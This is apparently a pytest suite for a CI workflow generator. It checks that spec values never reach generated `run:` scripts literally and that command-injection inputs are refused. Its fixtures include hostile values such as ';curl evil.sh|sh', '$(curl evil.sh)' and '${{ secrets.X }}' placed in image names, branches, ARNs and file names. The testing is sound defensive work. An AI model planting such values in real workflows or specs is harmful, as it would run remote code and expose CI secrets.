"""Issue 16, finding 7: no spec value reaches a `run:` script except through `env:`.

The audit parses every `run:` of every generated workflow and fails on a ``${{`` expression
or any spec-derived value (names, paths, images, roles…) written literally. The attacks of
the issue (an image repository with ``$(curl …)${{ secrets.X }}``, a ledger path or a stack
file name with ``;curl …|sh``) are refused by `pdp validate` with a located message, and by
the generator itself when a spec reaches it without validation.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from pdpkit.cli.ci import discover, pulumi_cli_version
from pdpkit.cli.main import main
from pdpkit.spec.stack import StackSpec
from pdpkit.workflows.generate import generate
from pdpkit.workflows.values import UnsafeWorkflowValueError
from tests.examples import ROOT

DIGEST = "@sha256:452865708b0d221f6aec4b1a8d5e8e9608d97acb7251587a113608c0caed1eed"
HOSTILE_IMAGE = "acmecr.azurecr.io/orders/$(curl${IFS}evil.sh)${{ secrets.X }}" + DIGEST
HOSTILE_SUFFIX = ";curl evil.sh|sh"


def spec_values(name: str, spec: StackSpec) -> Iterator[str]:
    """Every value of the stack that a workflow may carry."""
    dp = spec.dataplane
    yield name
    yield dp.name
    yield dp.region
    yield from dp.ci.runs_on
    yield from dp.ci.preview_runs_on
    for identity in (dp.ci.identity, dp.ci.preview_identity):
        if identity is not None:
            yield from (v for v in identity.model_dump().values() if v is not None)
    if dp.azure is not None:
        yield from (dp.azure.tenant_id, dp.azure.subscription_id)
    if dp.aws is not None and dp.aws.assume_role_arn is not None:
        yield dp.aws.assume_role_arn
    platform = spec.platform
    if platform is None:
        return
    yield platform.name
    yield platform.ledger.path
    yield from (a for p in platform.pipelines for g in p.gates for a in g.approvers)
    yield from (m for members in platform.groups.values() for m in members)
    yield from (e.name for e in platform.environments)
    yield from (p.name for p in platform.projects)
    for integration in platform.integrations:
        yield integration.name
        if integration.image:
            repository = integration.image.rpartition("@")[0]
            yield from (integration.image, repository, repository.split("/", 1)[0])
        if integration.track.branch:
            yield integration.track.branch


def leaks(workflow: dict[str, Any], values: set[str]) -> list[str]:
    """Each `run:` that holds an expression or one of `values` literally."""
    found = []
    for job_name, job in workflow["jobs"].items():
        for step in job["steps"]:
            script = step.get("run", "")
            where = f"{job_name} / {step.get('name')}"
            if "${{" in script:
                found.append(f"{where}: an expression in run:")
            for value in values:
                # a value as a word of the script (``$STACK`` is a reference, not a value)
                if re.search(rf"(?<![\w$.-]){re.escape(value)}(?![\w.-])", script):
                    found.append(f"{where}: {value!r} written into run:")
    return found


@pytest.fixture(scope="module")
def stacks() -> list[tuple[str, StackSpec]]:
    return discover(ROOT)


@pytest.fixture(scope="module")
def files(stacks: list[tuple[str, StackSpec]]) -> dict[str, str]:
    return generate(stacks, pulumi_cli_version())


def test_no_generated_script_holds_an_expression_or_a_spec_value(
    stacks: list[tuple[str, StackSpec]], files: dict[str, str]
) -> None:
    values = {v for name, spec in stacks for v in spec_values(name, spec) if len(v) >= 3}
    assert {"acme-aws-prod", "releases/acme.yaml", "release/1.2"} <= values
    scripts = 0
    for name, text in files.items():
        workflow = yaml.safe_load(text)
        assert leaks(workflow, values) == [], name
        scripts += sum("run" in s for j in workflow["jobs"].values() for s in j["steps"])
    assert scripts > 50  # the audit saw the scripts


def test_the_audit_catches_a_value_pasted_into_a_script() -> None:
    pasted = {
        "jobs": {
            "record": {
                "steps": [
                    {"name": "ok", "env": {"STACK": "acme-aws-prod"}, "run": 'pdp -s "$STACK"'},
                    {"name": "pasted", "run": "git add releases/acme.yaml\n"},
                    {"name": "expr", "run": "echo ${{ inputs.image }}\n"},
                ]
            }
        }
    }
    assert leaks(pasted, {"acme-aws-prod", "releases/acme.yaml"}) == [
        "record / pasted: 'releases/acme.yaml' written into run:",
        "record / expr: an expression in run:",
    ]


def _project(tmp_path: Path) -> Path:
    for name in ("Pulumi.yaml", "__main__.py"):
        shutil.copy(ROOT / name, tmp_path)
    for name in ("stacks", "platform", "releases"):
        shutil.copytree(ROOT / name, tmp_path / name)
    return tmp_path


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")


def _validate_and_generate(
    root: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> str:
    monkeypatch.chdir(root)
    assert main(["validate"]) == 1
    assert main(["ci", "generate", "--out", "wf"]) == 1
    assert not (root / "wf").exists()
    return capsys.readouterr().err


def test_an_image_repository_with_a_command_and_an_expression_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    root = _project(tmp_path)
    _edit(
        root / "platform/acme/integrations/order-api.yaml",
        "image: acmecr.azurecr.io/orders/order-api" + DIGEST,
        f"image: '{HOSTILE_IMAGE}'",
    )
    err = _validate_and_generate(root, monkeypatch, capsys)
    assert (
        "platform/acme/integrations/order-api.yaml:4 pdp:platform.integrations[2].image: "
        "is not a digest-pinned image reference" in err
    )


def test_a_ledger_path_with_a_command_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    root = _project(tmp_path)
    _edit(
        root / "platform/acme/platform.yaml",
        "path: releases/acme.yaml",
        f"path: 'releases/acme{HOSTILE_SUFFIX}.yaml'",
    )
    err = _validate_and_generate(root, monkeypatch, capsys)
    lines = (root / "platform/acme/platform.yaml").read_text(encoding="utf-8").splitlines()
    line = next(n for n, text in enumerate(lines, 1) if text.strip().startswith("path: 'releases"))
    assert f"platform/acme/platform.yaml:{line} pdp:platform.ledger.path:" in err
    assert "is not a relative path inside the repository" in err


def test_a_stack_file_name_with_a_command_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    root = _project(tmp_path)
    shutil.copy(
        root / "stacks/Pulumi.acme-onprem-local.yaml",
        root / f"stacks/Pulumi.x{HOSTILE_SUFFIX}.yaml",
    )
    err = _validate_and_generate(root, monkeypatch, capsys)
    assert (
        f"stacks/Pulumi.x{HOSTILE_SUFFIX}.yaml: stack name 'x{HOSTILE_SUFFIX}' is not a DNS" in err
    )


@pytest.mark.parametrize(
    "case",
    [
        (
            "platform/acme/integrations/order-api.yaml",
            "branch: release/1.2",
            "branch: 'main$(curl evil.sh)'",
            "platform/acme/integrations/order-api.yaml:{line} pdp:platform.integrations[2].track."
            "branch: is not a git branch name",
        ),
        (
            "stacks/Pulumi.acme-aws-prod.yaml",
            "assumeRoleArn: arn:aws:iam::210987654321:role/pdpkit-deployer",
            "assumeRoleArn: 'arn:aws:iam::210987654321:role/x\";curl evil.sh|sh;\"'",
            "stacks/Pulumi.acme-aws-prod.yaml:{line} pdp:dataplane.aws.assumeRoleArn: "
            "is not an IAM role ARN",
        ),
        (
            "stacks/Pulumi.acme-aws-prod.yaml",
            "runsOn: [self-hosted, linux, acme-aws-prod]",
            "runsOn: [self-hosted, 'linux${{ secrets.X }}']",
            "stacks/Pulumi.acme-aws-prod.yaml:{line} pdp:dataplane.ci.runsOn[1]: is not a runner label",
        ),
    ],
)
def test_other_values_that_reach_workflows_follow_their_grammar(
    case: tuple[str, str, str, str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    file, old, new, message = case
    root = _project(tmp_path)
    lines = (root / file).read_text(encoding="utf-8").splitlines()
    line = next(n for n, text in enumerate(lines, 1) if old in text)  # located at the edit
    _edit(root / file, old, new)
    assert message.format(line=line) in _validate_and_generate(root, monkeypatch, capsys)


def _hostile_specs(stacks: list[tuple[str, StackSpec]]) -> Iterator[list[tuple[str, StackSpec]]]:
    """The example specs with one hostile value each, built without validation."""
    yield [(f"x{HOSTILE_SUFFIX}", spec) for _, spec in stacks[:1]]
    for index, (name, spec) in enumerate(stacks):
        platform = spec.platform
        if platform is None or not platform.integrations:
            continue
        first, *rest = platform.integrations
        bad_image = first.model_copy(update={"image": HOSTILE_IMAGE})
        bad_branch = first.model_copy(
            update={"track": first.track.model_copy(update={"branch": "main';curl x|sh;'"})}
        )
        bad_ledger = platform.ledger.model_copy(update={"path": f"r{HOSTILE_SUFFIX}.yaml"})
        for update in (
            {"integrations": (bad_image, *rest)},
            {"integrations": (bad_branch, *rest)},
            {"ledger": bad_ledger},
        ):
            hostile = spec.model_copy(update={"platform": platform.model_copy(update=update)})
            yield [*stacks[:index], (name, hostile), *stacks[index + 1 :]]
        return


def test_the_generator_refuses_a_hostile_value_that_skipped_validation(
    stacks: list[tuple[str, StackSpec]],
) -> None:
    cases = list(_hostile_specs(stacks))
    assert len(cases) == 4
    for case in cases:
        with pytest.raises(UnsafeWorkflowValueError, match="refusing to write"):
            generate(case, pulumi_cli_version())
